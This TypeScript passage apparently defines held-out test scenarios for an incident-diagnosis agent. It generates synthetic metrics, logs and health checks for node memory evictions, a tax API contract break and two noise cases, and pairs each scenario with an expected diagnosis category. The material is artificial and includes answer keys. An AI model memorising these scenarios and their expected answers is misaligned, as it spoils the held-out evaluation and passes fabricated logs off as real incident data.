      { pluginId, timestamp: deploy + 13_000, kind: 'restart', level: 'info', message: 'Restarted for deploy of 7.3.0' },
      {
        pluginId,
        timestamp: deploy + 16_000,
        kind: 'log',
        level: 'info',
        message: 'Server listening on 0.0.0.0:8080 (version 7.3.0, node v20.11.1); capture worker subscribed to payment webhooks',
      },
      ...scattered(
        pluginId,
        deploy + 4 * MIN,
        onset,
        2,
        6062,
        'error',
        (i) => `POST /v1/checkout/${orderId(i, 60)}/confirm 500 (${reqId(i, 60)}): error: ${dup(i, 60)}`,
      ),
      ...logBurst(pluginId, onset, now + 1, 4, 'error', (i) =>
        i % 3 === 2
          ? `Capture worker: recording payment for ${orderId(i, 61)} from webhook payment_intent.succeeded (evt_${(i * 97_231).toString(36)}) failed: ${dup(i, 61)}; message will be retried`
          : `POST /v1/checkout/${orderId(i, 62)}/confirm 500 (${reqId(i, 62)}): error: ${dup(i, 62)}`,
      ),
      ...logBurst(
        pluginId,
        onset + 40_000,
        now + 1,
        1,
        'warn',
        (i) => `Checkout confirm retried by client for ${orderId(i, 62)} (${reqId(i, 63)}): payment already recorded, answering 409 Conflict`,
      ),
    );
    reportHealth(
      s,
      onset + 6 * MIN,
      'degraded',
      'checkout confirmation failing for ~1.5% of orders: duplicate key value violates unique constraint "payments_order_id_key"',
    );
    return s;
  },
  expected: { category: 'code-defect', mentions: /7\.3\.0/ },
};

// ── 7. Pod evictions under node memory pressure ─────────────────────────────────────────────
// The plugin's pods share node ip-10-0-3-41 with another team's analytics-exporter, whose pods
// request 1 GiB but are allowed 6 GiB. Through the evening the exporters grow: the node's free
// memory falls from ~2.3 GiB to the kubelet's hard eviction threshold (memory.available <
// 500Mi) over two and a half hours. At 21:10 the kubelet evicts the pod that most exceeds its
// request, which is one of the plugin's (400 MiB used against a 256 MiB request); the
// replacement is scheduled back onto the same node (the only one with free CPU), and the
// exporters take the freed memory again: an eviction every ~8 minutes. Each one cuts in-flight
// requests (502s, errors up to +9 %); in between two pods carry three pods' traffic (errors
// +1.5 %, latency ×1.35). The restarts look like a crash loop, but the plugin exits with no error
// and its own memory is normal: the node has run out of memory: resource exhaustion.
const EVICT_AFTER_ONSET = 35 * MIN;
const EVICT_AT = atTimeOfDay(21, 10, EVICT_AFTER_ONSET);
const NODE = 'ip-10-0-3-41.eu-central-1.compute.internal';
const nodeMemoryEvictions: FaultScenario = {
  name: 'node-memory-pressure-evictions',
  summary:
    'co-tenant pods grow node ip-10-0-3-41 below its eviction threshold: the plugin’s pods are evicted every ~8 min, 502s at each, errors +1.5 % with +9 % spikes; its own memory normal',
  timeline: EVICT_AT,
  build: (pluginId, now) => {
    const onset = now - EVICT_AFTER_ONSET;
    const evictions = [onset, onset + 8 * MIN + 20_000, onset + 17 * MIN + 5_000, onset + 25 * MIN + 40_000];
    const pods = ['orders-api-5f7d8-xk2lp', 'orders-api-5f7d8-9hmtw', 'orders-api-5f7d8-q4rzd', 'orders-api-5f7d8-v7ncs', 'orders-api-5f7d8-c2jbg'];
    const lastEviction = (t: number) => evictions.filter((e) => e <= t).pop();
    const hit = (t: number) => evictions.some((e) => t > e - MIN && t <= e + MIN);
    const r = rng(6071);
    // Free memory on the node, MiB: it slides to the threshold, then each eviction frees ~390 MiB
    // that the exporters take back at ~55 MiB a minute.
    const available = (t: number) => {
      const e = lastEviction(t);
      if (e === undefined) {
        const k = ramp(t, onset - 150 * MIN, 150 * MIN);
        return 2_300 - 1_810 * k ** 1.2 + 60 * (1 - k) * Math.sin(t / (23 * MIN));
      }
      return Math.max(458, 480 + 390 - ((t - e) / MIN) * 55);
    };
    const s = buildScenario(pluginId, now, 607, {
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = hit(t) ? 1 : 0;
        if (m === 'error-rate') return v + 0.015 + 0.075 * k;
        if (m === 'throughput') return v * (k ? 0.8 : 0.98);
        if (m === 'latency') return v * (1.35 + 0.5 * k);
        if (m === 'response-time') return v * (1.25 + 0.4 * k);
        if (m === 'cpu-usage') return Math.min(95, v + 14); // two pods carry three pods' traffic
        if (m === 'connection-count') return Math.round(v * (k ? 0.7 : 0.92));
        if (m === 'memory-usage') return v - 14 * MiB * (1 - ramp(t, lastEviction(t) ?? onset, 6 * MIN)); // a fresh pod starts smaller
        return undefined;
      },
    });
    addSeries(s, 'node.memory-available-mib', (t) => Math.round(available(t) + 25 * (r() - 0.5)));
    s.events.push(
      { pluginId, timestamp: onset - 18 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 12.4.1', data: { version: '12.4.1' } },
      ...[45, 25, 12].map((mins) => ({
        pluginId,
        timestamp: onset - mins * MIN,
        kind: 'log' as const,
        level: 'warn' as const,
        message: `Node ${NODE}: memory available ${Math.round(available(onset - mins * MIN))}Mi (hard eviction threshold memory.available<500Mi)`,
      })),
      {
        pluginId,
        timestamp: onset - 20_000,
        kind: 'log',
        level: 'warn',
        message: `Node ${NODE} status is now: NodeHasInsufficientMemory`,
      },
      {
        pluginId,
        timestamp: onset + 2 * MIN,
        kind: 'log',
        level: 'warn',
        message: `Top memory consumers on ${NODE}: analytics-exporter-0 5.1Gi (request 1Gi), analytics-exporter-1 4.8Gi (request 1Gi), orders-api 0.4Gi (request 256Mi)`,
      },
    );
    evictions.forEach((e, i) => {
      const used = 398_000 + ((i * 7_919) % 24_000);
      s.events.push(
        {
          pluginId,
          timestamp: e,
          kind: 'log',
          level: 'warn',
          message: `Evicted pod ${pods[i]}: The node was low on resource: memory. Threshold quantity: 500Mi, available: ${452_000 + ((i * 3_571) % 30_000)}Ki. Container orders-api was using ${used}Ki, request is 256Mi, has larger consumption of memory.`,
        },
        {
          pluginId,
          timestamp: e + 3_000,
          kind: 'restart',
          level: 'warn',
          message: `Pod ${pods[i]} evicted by the kubelet (node memory pressure); replacement ${pods[i + 1]} scheduled on ${NODE}`,
        },
        { pluginId, timestamp: e + 31_000, kind: 'log', level: 'info', message: `Server listening on 0.0.0.0:8080 (version 12.4.1, pod ${pods[i + 1]})` },
        ...logBurst(
          pluginId,
          e + 500,
          e + 45_000,
          8,
          'error',
          (n) =>
            `502 Bad Gateway for ${n % 2 ? 'POST /v1/checkout' : `GET /v1/orders/${orderId(n + i * 7, 71)}`} (${reqId(n + i * 7, 71)}): upstream prematurely closed connection while reading response header from upstream (pod ${pods[i]})`,
        ),
      );
    });
    s.events.push(
      ...logBurst(
        pluginId,
        onset + 90_000,
        now + 1,
        1,
        'error',
        (i) => `Request ${reqId(i, 72)} GET /v1/catalog?page=${(i % 40) + 1} exceeded its 2000 ms deadline (2 of 3 replicas ready)`,
      ),
    );
    addCheck(s, 'node:memory', (t) => {
      const a = Math.round(available(t));
      const data = { node: NODE, availableMi: a, evictionThresholdMi: 500 };
      if (a < 520) return { status: 'failed', message: `MemoryPressure=True on ${NODE}: ${a}Mi available (eviction threshold 500Mi)`, data };
      if (a < 1_000) return { status: 'warning', message: `${a}Mi available on ${NODE}`, data };
      return { status: 'passed', data };
    });
    reportHealth(s, onset + 30_000, 'degraded', `pod ${pods[0]} evicted (node memory pressure on ${NODE}); 2 of 3 replicas ready`);
    return s;
  },
  expected: { category: 'resource-exhaustion', mentions: /evict|memory pressure|MemoryPressure|InsufficientMemory|low on resource/i },
};

// ── 8. Tax provider changes its response for unpinned clients ──────────────────────────────
// Cart totals and checkouts ask api.taxrates.example (declared dependency tax-api) for the tax.
// The plugin never pinned an API version. At 08:05 the provider makes version 2025-05-01 the
// default for unpinned accounts: tax.rate (a number) becomes tax.rates (one entry per
// jurisdiction) and amounts become strings of minor units. The plugin's mapper throws "TypeError:
// Cannot read properties of undefined (reading 'toFixed')" on every taxed cart: errors +7 %,
// responses fast. A TypeError with a stack in the plugin's own code reads like a code defect,
// but the plugin did not change (last deploy 21 h earlier), the response's taxrates-version did,
// and the provider's ping answers as ever: the dependency broke its contract: dependency failure.
const TAX_AT = atTimeOfDay(8, 5);
const TAX_API = { id: 'tax-api', host: 'api.taxrates.example', port: 443 };
const taxApiContract: FaultScenario = {
  name: 'tax-api-breaking-change',
  summary:
    'api.taxrates.example makes API version 2025-05-01 the default for unpinned clients: tax.rate becomes tax.rates[], TypeError in mapTaxResponse, errors +7 %, no deploy',
  timeline: TAX_AT,
  build: (pluginId, now) => {
    const onset = now - AFTER_ONSET_MS;
    const s = buildScenario(pluginId, now, 608, {
      metric: (m, t, v) => {
        if (t < onset) return undefined;
        const k = ramp(t, onset, MIN);
        if (m === 'error-rate') return v + 0.07 * k;
        if (m === 'response-time') return v * (1 - 0.06 * k);
        if (m === 'throughput') return v * (1 + 0.04 * k); // shoppers retry
        return undefined;
      },
    });
    const COUNTRIES: [string, string][] = [
      ['DE', '0.19'],
      ['FR', '0.2'],
      ['NL', '0.21'],
      ['IT', '0.22'],
      ['SE', '0.25'],
    ];
    const stack = 'at mapTaxResponse (/app/dist/tax/taxrates-client.js:58:41) at async CartService.computeTotals (/app/dist/cart/service.js:212:19)';
    s.events.push(
      { pluginId, timestamp: onset - 21 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 3.6.2', data: { version: '3.6.2' } },
      ...logBurst(pluginId, s.from + MIN, onset, 1 / 10, 'info', (i) => {
        const [cc, rate] = COUNTRIES[i % COUNTRIES.length];
        return `Tax quote for ${cartId(i, 80)} from api.taxrates.example in ${60 + ((i * 17) % 70)} ms (taxrates-version 2024-09-12, ${cc}, rate ${rate})`;
      }),
      ...logBurst(
        pluginId,
        onset + 5_000,
        now + 1,
        2,
        'warn',
        () =>
          "Response from api.taxrates.example POST /v2/calculate failed schema validation (taxrates-version 2025-05-01): data/tax must have required property 'rate'; data/tax/amount must be number",
      ),
      ...logBurst(pluginId, onset + 8_000, now + 1, 8, 'error', (i) =>
        i % 3 === 2
          ? `POST /v1/checkout 500 (${reqId(i, 81)}): TypeError: Cannot read properties of undefined (reading 'toFixed') ${stack} at async CheckoutService.confirm (/app/dist/checkout/service.js:97:22)`
          : `POST /v1/cart/${cartId(i, 82)}/totals 500 (${reqId(i, 82)}): TypeError: Cannot read properties of undefined (reading 'toFixed') ${stack}`,
      ),
    );
    addDependency(s, TAX_API, () => ({ status: 'healthy', message: 'GET https://api.taxrates.example/v2/ping 200' }));
    reportHealth(s, onset + 2 * MIN, 'degraded', 'cart totals and checkout failing: TypeError in mapTaxResponse (tax calculation)');
    return s;
  },
  expected: { category: 'dependency-failure', mentions: /tax-api|taxrates|2025-05-01/i },
};

// ── 9. Noise: an optional dependency's rollout absorbed by fallbacks ─────────────────────────
// Product pages show "customers also bought" from recs-service (another team's, optional: the
// plugin has a 150 ms budget for it and a static popular-items list as fallback). At 10:51
// recs-service rolls out a new model; for ten minutes half its pods are warming up and many
// calls miss the budget. The plugin logs the timeouts, its circuit breaker opens, fallback
// recommendations are served, the breaker closes again when recs-service is back. The agent
// reports recs-service degraded in the meantime, with a failed dependency check; the plugin's
// own status stays healthy, no request fails, latency moves by a few percent. An optional
// dependency degraded and handled as designed: no incident.
const RECS_AT = atTimeOfDay(10, 50);
const RECS = { id: 'recs-service', host: 'recs.internal', port: 8443 };
const recsFallback: FaultScenario = {
  name: 'noise-optional-dependency-fallback',
  summary:
    'optional recs-service degraded for 10 min during its rollout: timeouts at the 150 ms budget, circuit breaker opens, fallback recommendations served; errors flat, plugin healthy',
  timeline: RECS_AT,
  build: (pluginId, now) => {
    const start = now - AFTER_ONSET_MS;
    const slow = start + MIN;
    const open = start + 3 * MIN + 10_000;
    const closed = start + 11 * MIN + 30_000;
    const s = buildScenario(pluginId, now, 609, {
      metric: (m, t, v) => {
        if (t >= slow && t < open) {
          if (m === 'latency') return v * 1.05; // some pages wait the full 150 ms budget
          if (m === 'response-time') return v * 1.04;
        }
        if (t >= open && t < closed) {
          if (m === 'latency') return v * 0.97; // the fallback is faster than the real call
          if (m === 'response-time') return v * 0.96;
        }
        return undefined;
      },
    });
    const r = rng(6091);
    s.events.push(
      { pluginId, timestamp: start - 14 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 5.0.3', data: { version: '5.0.3' } },
      ...logBurst(
        pluginId,
        slow,
        open,
        6,
        'warn',
        (i) =>
          `recs-service call timed out after 150 ms (GET https://recs.internal:8443/v1/similar/${sku(i, 91)}, ${reqId(i, 91)}); serving fallback recommendations`,
      ),
      {
        pluginId,
        timestamp: open,
        kind: 'log',
        level: 'warn',
        message: 'Circuit breaker recs-service OPEN: 46% of calls failed in the last 30 s (threshold 40%); serving fallback recommendations for 60 s',
      },
      ...[1, 2, 3, 4, 5, 6, 7].map((n) => ({
        pluginId,
        timestamp: open + n * 62_000,
        kind: 'log' as const,
        level: 'warn' as const,
        message: 'Circuit breaker recs-service HALF_OPEN: trial call timed out after 150 ms, OPEN again for 60 s',
      })),
      ...logBurst(
        pluginId,
        open + 30_000,
        closed,
        1,
        'info',
        () => `Served fallback recommendations (popular-items list, 24 items) on ${Math.round(90 + r() * 60)} product pages in the last minute`,
      ),
      {
        pluginId,
        timestamp: closed,
        kind: 'log',
        level: 'info',
        message: 'Circuit breaker recs-service CLOSED: 5 of 5 trial calls succeeded (p95 41 ms)',
      },
    );
    addDependency(s, RECS, (t) =>
      t >= start && t < start + 11 * MIN ? { status: 'degraded', message: 'rolling update of model v42: 3 of 6 pods ready; p99 880 ms' } : undefined,
    );
    reportHealth(s, slow + 20_000, 'healthy', 'optional dependency recs-service degraded: serving fallback recommendations', closed + 30_000);
    return s;
  },
  expected: null,
};

// ── 10. Noise: the monitoring agent's own upgrade ──────────────────────────────────────────
// At 02:44 the platform's nightly maintenance window upgrades the node's metrics agent (the
// OpenTelemetry collector that forwards this plugin's metrics and health reports). It is down
// for about 70 s: the plugin's exporter logs connection-refused errors, one minute of every
// metric and one health report never arrive, and the first export after the restart carries
// two minutes of request counts in one point (throughput ×2 for a minute). The plugin served
// every request normally the whole time; the blip is in the monitoring, not in the service: no
// incident.
const AGENT_AT = atTimeOfDay(2, 40);
const agentUpgrade: FaultScenario = {
  name: 'noise-monitoring-agent-upgrade',
  summary:
    'the metrics agent is upgraded at night: one minute of metrics and one health report missing, exporter ECONNREFUSED errors while it restarts, then throughput ×2 for one point; service normal',
  timeline: AGENT_AT,
  build: (pluginId, now) => {
    const start = now - AFTER_ONSET_MS;
    const gap = start + 5 * MIN; // the minute (and the 5-minute health report) that never arrives
    const stop = gap - 10_000;
    const back = stop + 70_000;
    const s = buildScenario(pluginId, now, 610, {
      metric: (m, t, v) => (t === gap + MIN && m === 'throughput' ? v * 1.97 : undefined), // two minutes of counts in one export
    });
    s.points = s.points.filter((p) => p.timestamp !== gap);
    s.health = s.health.filter((h) => tsOf(h) !== gap);
    s.events.push(
      { pluginId, timestamp: start - 9 * HOUR, kind: 'deploy', level: 'info', message: 'Deployed version 6.0.2', data: { version: '6.0.2' } },
      {
        pluginId,
        timestamp: stop - 5_000,
        kind: 'other',
        level: 'info',
        message: 'Maintenance window 02:30-03:30: DaemonSet otel-agent rolling update 0.98.0 → 0.102.1 on node ip-10-0-2-17',
        data: { maintenance: 'nightly', component: 'otel-agent', from: '0.98.0', to: '0.102.1' },
      },
      ...logBurst(
        pluginId,
        stop + 2_000,
        back,
        2,
        'error',
        () => 'PeriodicExportingMetricReader: metrics export failed (error Error: connect ECONNREFUSED 127.0.0.1:4318)',
      ),
      {
        pluginId,
        timestamp: gap + 20_000,
        kind: 'log',
        level: 'error',
        message: 'Health report not delivered: connect ECONNREFUSED 127.0.0.1:13133 (agent unavailable), will send the next one on schedule',
      },
      {
        pluginId,
        timestamp: back,
        kind: 'other',
        level: 'info',
        message: 'otel-agent 0.102.1 started on ip-10-0-2-17; receivers otlp (4317, 4318) ready, exporters resumed',
        data: { component: 'otel-agent', version: '0.102.1' },
      },
    );
    return s;
  },
  expected: null,
};

export const HELDOUT_CATALOG_5: FaultScenario[] = [
  cryptominer,
  cpuLimitLowered,
  objectStorageErrors,
  zonePartition,
  manualUpdate,
  captureRace,
  nodeMemoryEvictions,
  taxApiContract,
  recsFallback,
  agentUpgrade,
];

export function heldoutFault5Named(name: string): FaultScenario {
  const f = HELDOUT_CATALOG_5.find((x) => x.name === name);
  if (!f) throw new Error(`no held-out (set 5) fault scenario named ${name}`);
  return f;
}
